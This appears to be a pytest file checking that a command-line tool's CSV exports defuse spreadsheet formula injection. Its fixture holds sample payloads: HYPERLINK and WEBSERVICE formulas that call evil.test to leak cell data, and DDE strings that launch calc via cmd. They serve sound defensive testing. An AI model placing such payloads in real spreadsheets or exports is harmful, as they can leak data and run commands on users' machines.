"""One rule for every CSV lushbeat writes: a cell that a spreadsheet would run as a formula
(``=``, ``+``, ``-``, ``@``, tab, CR at its start) gets a leading ``'``; TSV and JSON stay raw."""

from __future__ import annotations

import csv
import io

import pytest

from lushbeat_cli.render.machine import FORMULA_STARTS
from tests.conftest import Project

HOSTILE = {
    "title": '=HYPERLINK("http://evil.test/?"&A1,"klik")',
    "summary": "+1+cmd|' /C calc'!A0",
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
    "author": ["-2+3+cmd|' /C calc'!A0", "Ana"],
    "tags": ["=1+1", "+plus", "-", "@x", "ok"],  # (tags are stripped of blanks)
    "desk": '=WEBSERVICE("http://evil.test")',
    "note": "\rCR",
    "tab": "\tTAB",
}


@pytest.fixture
def hostile(project: Project) -> Project:
    project.article("2024/a.md", date="2024-05-01", slug="a", **HOSTILE)
    project.article("2024/b.md", title="Biasa", date="2024-05-02", tags=["@X", "ok"])
    return project


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_defused(table: list[list[str]], *expected: str) -> None:
    """No cell starts a formula, and each expected value is there behind one quote."""
    cells = [cell for row in table for cell in row]
    assert cells
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    for value in expected:
        assert "'" + value in cells, value


@pytest.mark.parametrize(
    "args",
    [
        ("list", "--format", "csv"),
        ("list", "--format", "csv", "--fields", "title,summary,category,author,tags,note,=x"),
        ("list", "--format", "csv", "--fields", "title,desk,tab,note"),
        ("list", "--format", "csv", "--where", "desk!=y", "--fields", "title,desk"),
        ("export", "--format", "csv", "--fields", "summary,desk,=x"),
    ],
)
def test_article_csv_defuses_every_cell(cli, hostile: Project, args: tuple[str, ...]) -> None:
    run = cli(*args)
    assert run.exit_code == 0, run.stderr
    table = rows(run.stdout)
    assert_defused(table, HOSTILE["title"])
    for field in ("desk", "note", "tab"):
        if field in args[-1]:
            assert_defused(table, HOSTILE[field])
    if "=x" in args[-1]:
        assert table[0][-1] == "'=x"  # a header named by --fields too


def test_tag_and_stats_csv_defuse_every_cell(cli, hostile: Project) -> None:
    tags = cli("tags", "--format", "csv")
    assert tags.exit_code == 0, tags.stderr
    assert_defused(rows(tags.stdout), "=1+1", "+plus", "-", "@x")
    similar = cli("tags", "--similar", "--format", "csv")
    assert similar.exit_code == 0, similar.stderr
    assert_defused(rows(similar.stdout), "@x", "@X")  # @x and @X are one tag spelled twice
    stats = cli("stats", "--format", "csv")
    assert stats.exit_code == 0, stats.stderr
    assert_defused(rows(stats.stdout), HOSTILE["category"], HOSTILE["author"][0], "=1+1", "+plus")


def test_a_path_that_starts_a_formula_is_defused(cli, project: Project, monkeypatch) -> None:
    project.article("=cmd.md", title="Nama berkas")
    monkeypatch.chdir(project.content)  # paths are shown relative to here: "=cmd.md"
    run = cli("-C", str(project.root), "list", "--format", "csv", "--fields", "path,title")
    assert run.exit_code == 0, run.stderr
    assert rows(run.stdout)[1] == ["'=cmd.md", "Nama berkas"]
    assert cli("-C", str(project.root), "list", "--format", "paths").stdout == "=cmd.md\n"


def test_tsv_and_json_stay_raw(cli, hostile: Project) -> None:
    tsv = cli("list", "--format", "tsv", "--fields", "title,desk")
    assert tsv.stdout.splitlines()[2] == f"{HOSTILE['title']}\t{HOSTILE['desk']}"
    record = cli("list", "--format", "json").json()[1]
    assert record["title"] == HOSTILE["title"]
    assert record["tags"] == HOSTILE["tags"]
